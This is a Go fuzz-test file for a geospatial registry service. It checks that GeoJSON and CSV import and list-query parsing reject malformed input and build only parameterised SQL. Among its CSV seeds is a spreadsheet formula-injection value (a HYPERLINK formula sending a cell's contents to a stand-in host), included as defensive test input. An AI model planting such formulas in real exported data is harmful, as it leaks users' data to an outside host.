package registry

import (
	"encoding/json"
	"math"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"sitrep/internal/api"
	"sitrep/internal/inputtest"
)

// fuzzLayers are the layers every fuzzed Feature and file is checked
// against: between them, every kind of field and geometry.
var fuzzLayers = []*Layer{testSites, testDepots, testAreas}

// brokenJSON are bodies that break JSON in the ways clients do: cut short,
// bad quotes, bad UTF-8, a NUL, numbers too big for any type, nesting deeper
// than the decoder allows.
var brokenJSON = []string{
	``, `{`, `{"type":"Feature",`, `{"type":'Feature'}`, `{"type":"Feature""geometry":null}`,
	`{"type":"Feature","properties":{"name":"` + "\xff\xfe" + `","kind":"school"}}`,
	`{"type":"Feature","properties":{"name":"a\u0000b","kind":"school"}}`,
	`{"type":"Feature","properties":{"a\u0000":1}}`,
	"{\"type\":\"Feature\",\"properties\":{\"name\":\"a\x00b\"}}",
	`{"type":"Feature","geometry":{"type":"Point","coordinates":[1e400,43]},"properties":{"name":"x","kind":"school"}}`,
	`{"type":"Feature","geometry":{"type":"Point","coordinates":[87.41,43.47]},"properties":{"name":"x","kind":"school","people":99999999999999999999999}}`,
	`{"type":"Feature","geometry":{"type":"Point","coordinates":[87.41,43.47]},"properties":{"name":"x","kind":"school","area_m2":-1e309}}`,
	`{"type":"Feature","geometry":{"type":"Point","coordinates":[87.41]},"properties":{"name":"x","kind":"school"}}`,
	`{"type":"Feature","geometry":{"type":"Point","coordinates":null},"properties":{"name":"x","kind":"school"}}`,
	`{"type":"Feature","geometry":{"type":"Polygon","coordinates":` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + `}}`,
	strings.Repeat(`{"a":`, 10001) + `1` + strings.Repeat(`}`, 10001),
	`{"type":"Feature","id":"\ud800","geometry":null,"properties":null} {}`,
}

// validFeatures are Features the decoding tests accept, one per layer kind.
var validFeatures = []string{
	`{"type":"Feature","geometry":{"type":"Point","coordinates":[87.41,43.47]},"properties":{"name":"一中","kind":"school"}}`,
	`{"type":"Feature","geometry":{"type":"Point","coordinates":[87.41,43.47]},"properties":{"name":"  一中  ","kind":"school",` +
		`"code":"","people":1200,"present":300,"area_m2":1.5e3,"open":true,"opened_on":"1998-09-01",` +
		`"checked_at":"2024-05-01T08:00:00+08:00","facilities":[" water","power "],"labels":["a;b"]}}`,
	`{"type":"Feature","id":"7","bbox":[87.4,43.4,87.5,43.5],"crs":{"type":"name","properties":{"name":"urn:ogc:def:crs:OGC:1.3:CRS84"}},` +
		`"geometry":{"type":"Polygon","coordinates":[[[87.4,43.4],[87.5,43.4],[87.5,43.5],[87.4,43.4]]]},` +
		`"properties":{"name":"一中","kind":"school","id":"7","version":3,"updated_at":"2024-05-01T00:00:00Z","grade":"一级"}}`,
	`{"type":"Feature","geometry":{"type":"Point","coordinates":[87.41,43.47]},"properties":{"name":"库",` +
		`"stock":[{"item":"水","quantity":10,"unit":"t"},{"item":"帐篷","quantity":2.5}],` +
		`"last_position":{"type":"Point","coordinates":[87.5,43.5]}}}`,
	`{"type":"Feature","geometry":{"type":"MultiPolygon","coordinates":[[[[87,43],[88,43],[88,44],[87,43]]]]},"properties":{"name":"区"}}`,
}

// FuzzDecode: no Feature body makes Decode panic; a refusal is a client
// problem naming fields by JSON Pointer; what is accepted can be stored as
// it is (a geometry PostGIS reads, values of their column's type that
// PostgreSQL takes).
func FuzzDecode(f *testing.F) {
	for _, s := range slices.Concat(validFeatures, brokenJSON) {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		for _, l := range fuzzLayers {
			in, err := l.Decode(body)
			if err != nil {
				inputtest.RefusedBody(t, body, err)
				continue
			}
			checkInput(t, l, body, in)
		}
	})
}

// checkInput fails t unless in, decoded by l from feature, is what the
// Feature sent and can be stored.
func checkInput(t *testing.T, l *Layer, feature []byte, in *Input) {
	t.Helper()
	// Members are read as Decode reads them: the Feature into a struct,
	// its properties into a map.
	var sent struct {
		Geometry   json.RawMessage `json:"geometry"`
		Properties json.RawMessage `json:"properties"`
	}
	var props map[string]json.RawMessage
	if json.Unmarshal(feature, &sent) != nil || (len(sent.Properties) > 0 && json.Unmarshal(sent.Properties, &props) != nil) {
		t.Fatalf("%s took %q, which is not a Feature", l.Name, feature)
	}
	g := in.Geometry
	if g == nil {
		t.Fatalf("%s took %q without a geometry", l.Name, feature)
	}
	if !slices.Contains(l.Geometries, g.Type) || g.Vertices < 1 || g.Vertices > l.maxVertices() {
		t.Fatalf("%s took %q: geometry %s with %d vertices", l.Name, feature, g.Type, g.Vertices)
	}
	inputtest.SameGeometry(t, feature, sent.Geometry, g.GeoJSON)
	if in.ID != nil && !json.Valid(in.ID) {
		t.Fatalf("%s took %q: id %q is not JSON", l.Name, feature, in.ID)
	}
	checkValues(t, l.Fields, feature, props, in.Values)
}

// checkValues fails t unless every writable field has a value its column
// takes: text PostgreSQL can hold, integers in int4, finite numbers, dates
// and times PostgreSQL reads, points as sent, lines each checked the same.
func checkValues(t *testing.T, fields []Field, feature []byte, sent map[string]json.RawMessage, values map[string]any) {
	t.Helper()
	bad := func(f Field, v any) {
		t.Helper()
		t.Fatalf("%q gave %s = %#v", feature, f.Name, v)
	}
	storable := func(s string) bool { return utf8.ValidString(s) && !strings.ContainsRune(s, 0) }
	for _, f := range fields {
		v, ok := values[f.Name]
		if f.ReadOnly {
			if ok {
				bad(f, v)
			}
			continue
		}
		if !ok || (v == nil && f.Required) {
			bad(f, v)
		}
		if v == nil {
			continue
		}
		switch f.Kind {
		case Text:
			s, ok := v.(string)
			if !ok || s == "" || !storable(s) || utf8.RuneCountInString(s) > f.maxLen() || (len(f.Enum) > 0 && !slices.Contains(f.Enum, s)) {
				bad(f, v)
			}
		case Integer:
			if n, ok := v.(int64); !ok || n != int64(int32(n)) || (f.NonNegative && n < 0) {
				bad(f, v)
			}
		case Number:
			if x, ok := v.(float64); !ok || math.IsNaN(x) || math.IsInf(x, 0) || (f.NonNegative && x < 0) {
				bad(f, v)
			}
		case Boolean:
			if _, ok := v.(bool); !ok {
				bad(f, v)
			}
		case Date:
			// PostgreSQL's dates reach back to 4713 BC, but have no year 0.
			s, ok := v.(string)
			d, err := time.Parse(time.DateOnly, s)
			if !ok || err != nil || d.Year() < 1 {
				bad(f, v)
			}
		case Timestamp:
			if ts, ok := v.(time.Time); !ok || ts.IsZero() || ts.Location() != time.UTC {
				bad(f, v)
			}
		case Tags:
			tags, ok := v.([]string)
			if !ok {
				bad(f, v)
			}
			for _, s := range tags {
				if strings.TrimSpace(s) == "" || !storable(s) || (len(f.Enum) > 0 && !slices.Contains(f.Enum, s)) {
					bad(f, v)
				}
			}
		case Point:
			s, ok := v.(string)
			if !ok {
				bad(f, v)
			}
			inputtest.SameGeometry(t, feature, sent[f.Name], s)
		case Lines:
			lines, ok := v.([]Line)
			var sentLines []map[string]json.RawMessage
			if raw := sent[f.Name]; raw != nil && json.Unmarshal(raw, &sentLines) != nil {
				bad(f, v)
			}
			if !ok || len(sentLines) != len(lines) {
				bad(f, v)
			}
			for i, line := range lines {
				checkValues(t, f.Lines, feature, sentLines[i], line)
			}
			if _, err := bindValue(f.Kind, v); err != nil {
				bad(f, v)
			}
		}
	}
}

// csvFiles are files the CSV tests read, good and bad.
var csvFiles = []string{
	" id , lon,lat,name,kind,grade,version,updated_at\n9,87.41,43.47,一中,school,一级,4,2024-05-01T00:00:00Z\n",
	"\xEF\xBB\xBFlon,lat,name,kind\n87.41,43.47,一中,school\n",
	"lon,lat,name,kind,people,area_m2,open,opened_on,facilities,labels,code\n" +
		`87.41,43.47,一中,school,1200,1.5e3,TRUE,1998-09-01, water ; power ;;,"[""a;b"",""c""]",` + "\n",
	"wkt,name,kind\nPOINT(87.41 43.47),一中,school\n\"SRID=4326;POLYGON((87.4 43.4,87.5 43.4,87.5 43.5,87.4 43.4))\",二中,school\n",
	"wkt,name\n\"MULTIPOLYGON(((87 43,88 43,88 44,87 43)))\",区\nPOINT(1 2),点\nPOLYGON((1 2)),短\n",
	"lon,lat,name,stock,last_position\n" +
		`87.41,43.47,库,"[{""item"":""水"",""quantity"":10,""unit"":""t""}]",POINT(87.5 43.5)` + "\n" +
		`87.41,43.47,库,,"{""type"":""Point"",""coordinates"":[87.6,43.6]}"` + "\n" +
		`87.41,43.47,库,[{item:水}],` + "\n",
	"lon,lat,name,kind,people,open\n87.41,43.47,一中,school,\"1,200\",yes\n",
	"lon,lat,name,kind\n87.41,43.47,一\"中,school\n",
	"lon,lat,name,kind\n\"87.41,43.47,一中,school\n",
	"lon,lat,name,kind\n87.41,43.47\n87.41,43.47,一中,school,extra\n",
	"lon,lat,name,kind\n87.41,43.47,\xd2\xbb\xd6\xd0,school\n",
	"lon,lat,name,kind\nNaN,Inf,一中,school\n1e400,43,二中,school\n",
	"lon,lat,name,kind\n87.41,43.47,\"a\x00b\",school\n",
	"lon,lat,name,kind,wkt\n",
	"lon,lat,lon\n",
	"name,kind,colour\n",
	"",
	"wkt,name,kind\n" + `=HYPERLINK("http://x/?"&B2),'=twice,school` + "\n",
}

// FuzzParseCSV: no file makes the CSV reader panic; a file that cannot be
// read is a 400; every row of one that can is either a fault with its line
// or a Feature that Decode checks, and each of Decode's refusals becomes a
// report line naming a column, as Import does.
func FuzzParseCSV(f *testing.F) {
	for _, s := range csvFiles {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		for _, l := range fuzzLayers {
			pf, err := l.parseCSV(body)
			if err != nil {
				inputtest.Refusal(t, body, err)
				continue
			}
			checkRows(t, l, body, pf, strings.Count(string(body), "\n")+1)
		}
	})
}

// geoJSONFiles are FeatureCollections, good and bad.
var geoJSONFiles = []string{
	`{"type":"FeatureCollection","features":[` + strings.Join(validFeatures, ",\n") + `]}`,
	"\xEF\xBB\xBF" + `{"type":"FeatureCollection","name":"x","crs":{"type":"name","properties":{"name":"EPSG:4326"}},"features":[]}`,
	`{"type":"FeatureCollection","features":[{"type":"Feature"},` + "\n" + `{"type":"Feature","properties":{"name":1}}]}`,
	`{"type":"FeatureCollection","features":[{"type":"Feature"}` + "\n" + `{"type":"Feature"}]}`,
	`{"type":"FeatureCollection","features":{}}`,
	`{"type":"FeatureCollection","features":[],"colour":1}`,
	`{"type":"FeatureCollection","crs":{"type":"name","properties":{"name":"EPSG:3857"}},"features":[]}`,
	`{"features":[]}`, `[]`, `{"type":"FeatureCollection","features":[]} []`,
	`{"type":"FeatureCollection","features":["\u0000"]}`,
	"{\"type\":\"FeatureCollection\",\"features\":[\"\xff\"]}",
}

// FuzzParseGeoJSONFile is FuzzParseCSV for GeoJSON files: a file that
// cannot be read is a client problem; every feature is checked by Decode
// and reported at its line and JSON Pointer.
func FuzzParseGeoJSONFile(f *testing.F) {
	for _, s := range slices.Concat(geoJSONFiles, brokenJSON) {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		for _, l := range fuzzLayers {
			pf, err := l.parseGeoJSON(body)
			if err != nil {
				inputtest.RefusedBody(t, body, err)
				continue
			}
			checkRows(t, l, body, pf, strings.Count(string(body), "\n")+1)
		}
	})
}

// checkRows checks every row of pf as Import does, without a database:
// faults carry a line of the file, and each accepted row is storable.
func checkRows(t *testing.T, l *Layer, body []byte, pf *parsedFile, lines int) {
	t.Helper()
	for i := range pf.rows {
		r := &pf.rows[i]
		if r.line < 1 || r.line > lines {
			t.Fatalf("%s, file %q: row %d on line %d of %d", l.Name, body, r.row, r.line, lines)
		}
		rep := &ImportReport{}
		if len(r.errs) > 0 {
			rep.Errors = r.errs
		} else if in, err := l.Decode(r.feature); err != nil {
			inputtest.RefusedBody(t, r.feature, err)
			if err := rep.addProblemOrFail(pf, r, err); err != nil {
				t.Fatalf("%s, file %q: row %d: %v", l.Name, body, r.row, err)
			}
		} else {
			checkInput(t, l, r.feature, in)
		}
		for _, e := range rep.Errors {
			if e.Line != r.line || e.Row != r.row || e.Detail == "" {
				t.Fatalf("%s, file %q: row %d on line %d reported as %+v", l.Name, body, r.row, r.line, e)
			}
		}
	}
}

// filtered is a layer with a filter of every kind the list takes.
var filtered = (&Layer{
	Name:       "test_filtered",
	Table:      "test_filtered",
	Geometries: []string{"Point"},
	Fields: []Field{
		{Name: "name", Title: "名称", Kind: Text, Filter: true},
		{Name: "kind", Title: "类别", Kind: Text, Enum: []string{"school", "hospital"}, EnumLabel: testLabel, Filter: true},
		{Name: "open", Title: "开放", Kind: Boolean, Filter: true},
		{Name: "facilities", Title: "设施", Kind: Tags, Filter: true},
		{Name: "people", Title: "人数", Kind: Integer},
	},
}).Init()

// FuzzParseList: no query string makes ParseList panic; a refusal is a 400
// naming a parameter sent; an accepted list is within its bounds, and its
// SQL carries the input only as bound values.
func FuzzParseList(f *testing.F) {
	for _, s := range []string{
		"", "bbox=87,43,88,44&limit=10&after=5", "kind=school,hospital&open=true&facilities=water,power",
		"name=一中", "name=a&name=b", "limit=0", "limit=5001", "limit=99999999999999999999", "after=-1",
		"bbox=87,43,88", "bbox=88,43,87,44", "bbox=-181,0,0,1", "bbox=-Inf,0,Inf,1", "bbox=1e400,0,0,1",
		"kind=castle", "open=yes", "people=5", "colour=red", "kind=", "name=%00", "%zz=1", "a=1;b=2", "bbox=%2087%20,43,88,44",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		q, _ := url.ParseQuery(raw) // as r.URL.Query(): a malformed pair is dropped
		if api.QueryProblem(q) != nil {
			return // the server refuses it before any handler (see server.refuseUnstorableText)
		}
		lq, err := filtered.ParseList(q)
		if err != nil {
			inputtest.RefusedQuery(t, raw, q, err)
			return
		}
		if lq.limit < 1 || lq.limit > MaxLimit || lq.after < 0 {
			t.Fatalf("%q: limit %d after %d", raw, lq.limit, lq.after)
		}
		if b := lq.bbox; b != nil {
			for i, x := range b {
				if math.IsNaN(x) || math.Abs(x) > []float64{180, 90}[i%2] {
					t.Fatalf("%q: bbox %v", raw, b)
				}
			}
			if b[0] > b[2] || b[1] > b[3] {
				t.Fatalf("%q: bbox %v", raw, b)
			}
		}
		for _, fl := range lq.filters {
			for _, v := range fl.values {
				if checkFilterValue(fl.field, v) != nil || !utf8.ValidString(v) || strings.ContainsRune(v, 0) {
					t.Fatalf("%q: %s filter value %q", raw, fl.field.Name, v)
				}
			}
		}
		where, args := filtered.listWhere(lq)
		sql := strings.Join(where, " AND ")
		if strings.ContainsAny(sql, "';") {
			t.Fatalf("%q produced SQL with input text: %s", raw, sql)
		}
		for n := 1; n <= len(args); n++ {
			if !strings.Contains(sql+" LIMIT $2", "$"+strconv.Itoa(n)) {
				t.Fatalf("%q: $%d of %d args unused: %s", raw, n, len(args), sql)
			}
		}
		if strings.Contains(sql, "$"+strconv.Itoa(len(args)+1)) {
			t.Fatalf("%q: more placeholders than %d args: %s", raw, len(args), sql)
		}
	})
}
